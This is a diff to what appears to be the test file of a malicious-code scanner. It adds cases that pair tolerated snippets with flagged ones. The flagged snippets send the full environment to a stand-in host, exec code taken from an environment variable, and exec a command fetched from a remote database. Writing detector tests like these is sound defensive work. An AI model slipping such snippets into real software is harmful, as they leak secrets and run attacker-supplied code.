@@ -230,6 +230,28 @@ IMPORTED = "import os, requests, httpx, subprocess, sys, tempfile\n"
             id="an installer the user is asked about first, and one the user is not",
         ),
         pytest.param(
+            "requests.post('https://t.example/e', json={'venv': 'VIRTUAL_ENV' in os.environ, 'ci': os.environ == {}})\n",
+            "requests.post('https://t.example/e', json={'venv': dict(os.environ)})\n",
+            "MLS-C010",
+            id="whether a variable is set, and all that are",
+        ),
+        pytest.param(
+            "def rc():\n    path = os.getenv('DEMO_RC')\n    if path:\n"
+            "        exec(compile(open(path).read(), path, 'exec'))\nrc()\n",
+            "def rc():\n    text = os.getenv('DEMO_RC')\n    if text:\n        exec(compile(text, 'rc', 'exec'))\nrc()\n",
+            "MLS-C043",
+            id="a configuration that is code, where a variable says, and a variable that is code",
+        ),
+        pytest.param(
+            "import pymongo\ndef main():\n    db = pymongo.MongoClient('127.0.0.1').jobs\n"
+            "    exec('import ' + db.find_one()['cmd'])\n"
+            "if __name__ == '__main__':\n    main()\n",
+            "import pymongo\ndef main():\n    db = pymongo.MongoClient('mongodb://db.c.example').jobs\n"
+            "    exec('import ' + db.find_one()['cmd'])\nif __name__ == '__main__':\n    main()\n",
+            "MLS-C004",
+            id="a worker of a store on this machine, and of somebody's",
+        ),
+        pytest.param(
             "def quiet(fn):\n    def w(*a, **kw):\n        try:\n            return fn(*a, **kw)\n        except OSError:\n"
             "            return None\n    return w\n@quiet\ndef track(event):\n"
             "    requests.post('https://t.example/e', json={'e': event})\n",
